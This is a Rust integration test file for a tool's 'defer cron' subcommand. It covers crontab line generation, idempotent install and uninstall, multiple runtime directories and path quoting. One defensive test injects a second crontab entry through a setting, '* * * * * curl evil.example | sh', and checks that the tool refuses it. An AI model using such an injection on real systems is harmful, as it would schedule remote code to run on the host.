//! `defer cron`: the crontab line with the binary and settings baked in, and
//! `--install` / `--uninstall` against a fake `crontab` on PATH.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use crate::support::{Cmd, Env, BIN};

const MARKER: &str = "# defer-runner";

/// A fake `crontab` (`-l` prints the file or says "no crontab"; `-` stores stdin) in
/// `bin/`; returns (bin dir, crontab file).
fn fake_crontab(env: &Env) -> (PathBuf, PathBuf) {
    let bin = env.root().join("bin");
    let file = env.root().join("crontab.txt");
    fs::create_dir_all(&bin).unwrap();
    let script = format!(
        "#!/bin/sh\nf='{}'\ncase \"$1\" in\n  -l) [ -f \"$f\" ] || {{ echo 'no crontab for user' >&2; exit 1; }}; cat \"$f\" ;;\n  -) cat > \"$f\" ;;\n  *) exit 2 ;;\nesac\n",
        file.display()
    );
    fs::write(bin.join("crontab"), script).unwrap();
    fs::set_permissions(bin.join("crontab"), fs::Permissions::from_mode(0o755)).unwrap();
    (bin, file)
}

fn with_path(cmd: Cmd, bin: &Path) -> Cmd {
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    cmd.env("PATH", path)
}

fn ours(text: &str) -> Vec<&str> {
    text.lines().filter(|l| l.ends_with(MARKER)).collect()
}

#[test]
fn line_has_the_absolute_binary_and_the_settings() {
    let env = Env::new();
    let out = env
        .cmd(&["cron"])
        .env("DEFER_LOG_DIR", "logs-here")
        .env("DEFER_EXECUTOR", "/opt/my agent/run")
        .success();
    let line = out.stdout.trim_end();
    assert_eq!(out.stdout.lines().count(), 1, "{}", out.stdout);
    let bin = fs::canonicalize(BIN).unwrap();
    assert!(line.starts_with("* * * * * "), "{line}");
    assert!(
        line.ends_with(&format!("{} run {MARKER}", bin.display())),
        "{line}"
    );
    let runtime = env.runtime_dir();
    assert!(
        line.contains(&format!("DEFER_RUNTIME_DIR={}", runtime.display())),
        "{line}"
    );
    assert!(line.contains("DEFER_TIMEZONE=America/New_York"), "{line}");
    assert!(
        line.contains("DEFER_EXECUTOR='/opt/my agent/run'"),
        "{line}"
    );
    let logs = env.home().join("logs-here");
    assert!(
        line.contains(&format!("DEFER_LOG_DIR={}", logs.display())),
        "{line}"
    );
    assert!(line.contains(" PATH="), "{line}");
    assert!(!line.contains("HOME="), "{line}");
}

#[test]
fn install_is_idempotent_and_keeps_other_lines() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    let out = with_path(env.cmd(&["cron", "--install"]), &bin).success();
    let first = fs::read_to_string(&file).unwrap();
    assert_eq!(ours(&first), vec![out.stdout.trim_end()]);

    fs::write(&file, format!("MAILTO=me\n{first}0 3 * * * backup\n")).unwrap();
    let out = with_path(env.cmd(&["cron", "--install"]), &bin).success();
    assert!(out.stderr.contains("up to date"), "{}", out.stderr);
    let text = fs::read_to_string(&file).unwrap();
    assert_eq!(ours(&text).len(), 1, "{text}");
    assert!(text.starts_with("MAILTO=me\n") && text.ends_with("0 3 * * * backup\n"));

    // New settings replace our line in place.
    with_path(env.cmd(&["cron", "--install"]), &bin)
        .env("DEFER_EXECUTOR", "/bin/true")
        .success();
    let text = fs::read_to_string(&file).unwrap();
    assert_eq!(ours(&text).len(), 1, "{text}");
    assert!(
        ours(&text)[0].contains("DEFER_EXECUTOR=/bin/true"),
        "{text}"
    );
    assert_eq!(text.lines().nth(1), Some(ours(&text)[0]), "{text}");
}

#[test]
fn uninstall_removes_only_our_line() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    fs::write(&file, "0 3 * * * backup\n").unwrap();
    with_path(env.cmd(&["cron", "--install"]), &bin).success();
    let out = with_path(env.cmd(&["cron", "--uninstall"]), &bin).success();
    assert!(out.stdout.is_empty());
    assert_eq!(fs::read_to_string(&file).unwrap(), "0 3 * * * backup\n");
    let out = with_path(env.cmd(&["cron", "--uninstall"]), &bin).success();
    assert!(out.stderr.contains("nothing to remove"), "{}", out.stderr);
}

#[test]
fn missing_crontab_command_is_a_clear_error() {
    let env = Env::new();
    let empty = env.root().join("empty");
    fs::create_dir_all(&empty).unwrap();
    for flag in ["--install", "--uninstall"] {
        let out = env
            .cmd(&["cron", flag])
            .env("PATH", empty.display().to_string())
            .failure(1);
        assert!(
            out.stderr.ends_with(
                "defer: crontab not found on PATH (install the 'cron' package, e.g. apt-get install cron)\n"
            ),
            "{}",
            out.stderr
        );
    }
}

// ---- untrusted settings ----

#[test]
fn a_control_character_in_a_setting_is_refused_and_nothing_is_installed() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    fs::write(&file, "0 3 * * * backup\n").unwrap();
    for (name, value) in [
        (
            "DEFER_EXECUTOR",
            "/bin/true\n* * * * * curl evil.example | sh",
        ),
        ("DEFER_ON_FAILURE", "notify\rfake"),
        ("DEFER_LOG_DIR", "logs\u{1b}[2J"),
    ] {
        for args in [&["cron"][..], &["cron", "--install"]] {
            let out = with_path(env.cmd(args), &bin).env(name, value).failure(1);
            let line = out.error_line();
            assert!(
                line.starts_with(&format!("defer: {name} holds a control character ('")),
                "{line}"
            );
            assert!(!line.chars().any(char::is_control), "{line}");
            assert!(out.stdout.is_empty(), "{}", out.stdout);
        }
    }
    assert_eq!(fs::read_to_string(&file).unwrap(), "0 3 * * * backup\n");
}

#[test]
fn only_defer_settings_are_baked_in() {
    let env = Env::new();
    let out = env
        .cmd(&["cron"])
        .env("DEFER_API_KEY", "sk-secret-token")
        .env("DEFER_TASK_ID", "t1")
        .env("DEFER_GRACE_SECONDS", "120")
        .env("DEFER_ON_SUCCESS", "/usr/local/bin/notify")
        .success();
    let line = out.stdout.trim_end();
    assert!(
        !line.contains("secret") && !line.contains("DEFER_API_KEY"),
        "{line}"
    );
    assert!(!line.contains("DEFER_TASK_ID"), "{line}");
    assert!(line.contains(" DEFER_GRACE_SECONDS=120 "), "{line}");
    assert!(
        line.contains(" DEFER_ON_SUCCESS=/usr/local/bin/notify "),
        "{line}"
    );
}

/// What cron runs for a crontab line: the command after the five time fields, by the
/// library's one `%` rule (checked there against the real daemon).
fn cron_command(line: &str) -> String {
    let command = line.splitn(6, ' ').nth(5).expect("five time fields");
    defer::cron::percent::read(command).command
}

#[test]
fn the_installed_line_runs_under_cron_with_percent_quote_and_backslash_in_paths() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    let runtime = env.root().join(r"50% it's a\%b\\%");
    let out = with_path(env.cmd(&["cron", "--install"]), &bin)
        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
        .success();
    let installed = fs::read_to_string(&file).unwrap();
    let line = ours(&installed)[0];
    assert_eq!(line, out.stdout.trim_end());

    env.cmd(&["schedule", "--when", "now", "--summary", "s", "--id", "t1"])
        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
        .success();
    // As cron would: `sh -c` on the processed command, in a bare environment.
    let ran = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(cron_command(line))
        .env_clear()
        .env("HOME", env.home())
        .env("PATH", "/usr/bin:/bin")
        .envs(crate::support::suite_clock_vars())
        .current_dir(env.home())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(ran.status.success(), "{line}\n{stderr}");
    let shown = env
        .cmd(&["show", "t1", "--compact"])
        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
        .success()
        .json();
    assert_eq!(shown["status"], "completed", "{line}");
    assert!(runtime.join("logs/t1.prompt.txt").is_file());
}

#[test]
fn one_line_per_runtime_dir_install_and_uninstall_touch_only_their_own() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    let dir_b = env.root().join("store-b");
    let in_b =
        |cmd: Cmd| with_path(cmd, &bin).env("DEFER_RUNTIME_DIR", dir_b.display().to_string());
    with_path(env.cmd(&["cron", "--install"]), &bin).success();
    let a_line = ours(&fs::read_to_string(&file).unwrap())[0].to_string();
    in_b(env.cmd(&["cron", "--install"])).success();
    let text = fs::read_to_string(&file).unwrap();
    let lines = ours(&text);
    assert_eq!(lines.len(), 2, "{text}");
    assert_eq!(lines[0], a_line, "store A's line was replaced: {text}");
    assert!(
        lines[1].contains(&format!("DEFER_RUNTIME_DIR={}", dir_b.display())),
        "{text}"
    );

    // Re-installing A with new settings replaces A's line only, in place.
    with_path(env.cmd(&["cron", "--install"]), &bin)
        .env("DEFER_EXECUTOR", "/bin/true")
        .success();
    let text = fs::read_to_string(&file).unwrap();
    let lines = ours(&text);
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[0].contains("DEFER_EXECUTOR=/bin/true"), "{text}");
    assert!(!lines[1].contains("DEFER_EXECUTOR"), "{text}");

    // doctor for A judges A's line and names B's.
    let out = with_path(env.cmd(&["doctor"]), &bin).run();
    let rows = out.json();
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["check"] == "crontab")
        .unwrap()
        .clone();
    assert_eq!(row["status"], "ok", "{row}");
    let detail = row["detail"].as_str().unwrap();
    assert!(
        detail.ends_with(&format!(
            "; 1 other defer line in it, for {}",
            dir_b.display()
        )),
        "{detail}"
    );

    // Uninstalling B leaves A's line.
    let out = in_b(env.cmd(&["cron", "--uninstall"])).success();
    assert!(
        out.stderr
            .contains(&format!("removed the defer line for {}", dir_b.display())),
        "{}",
        out.stderr
    );
    let text = fs::read_to_string(&file).unwrap();
    assert_eq!(ours(&text).len(), 1, "{text}");
    assert!(
        ours(&text)[0].contains("DEFER_EXECUTOR=/bin/true"),
        "{text}"
    );
    let out = in_b(env.cmd(&["cron", "--uninstall"])).success();
    assert!(out.stderr.contains("nothing to remove"), "{}", out.stderr);
}

#[test]
fn an_old_line_without_a_runtime_dir_is_recognised_as_the_default_dirs() {
    let env = Env::new();
    let (bin, file) = fake_crontab(&env);
    let old = "* * * * * /old/path/defer run # defer-runner";
    fs::write(&file, format!("0 3 * * * backup\n{old}\n")).unwrap();
    // This shell uses the default runtime dir (under HOME), as the old line does.
    let out = with_path(env.cmd(&["cron", "--install"]), &bin)
        .env_remove("DEFER_RUNTIME_DIR")
        .success();
    let text = fs::read_to_string(&file).unwrap();
    assert_eq!(text, format!("0 3 * * * backup\n{}", out.stdout), "{text}");
    let default = env.home().join("data/runtime");
    assert!(
        out.stdout
            .contains(&format!("DEFER_RUNTIME_DIR={}", default.display())),
        "the runtime dir is always baked in: {}",
        out.stdout
    );
}

#[test]
fn relative_path_entries_are_left_out_with_a_note() {
    let env = Env::new();
    let out = env
        .cmd(&["cron"])
        .env("PATH", ".:/usr/bin::bin:/bin:.")
        .success();
    assert!(
        out.stdout.contains(" PATH=/usr/bin:/bin "),
        "{}",
        out.stdout
    );
    assert_eq!(
        out.stderr,
        "defer: note: left out of the crontab line's PATH: '.', '', 'bin' (relative entries; cron starts jobs in $HOME)\n"
    );
    let out = env.cmd(&["cron"]).env("PATH", "/usr/bin:/bin").success();
    assert_eq!(out.stderr, "");
}
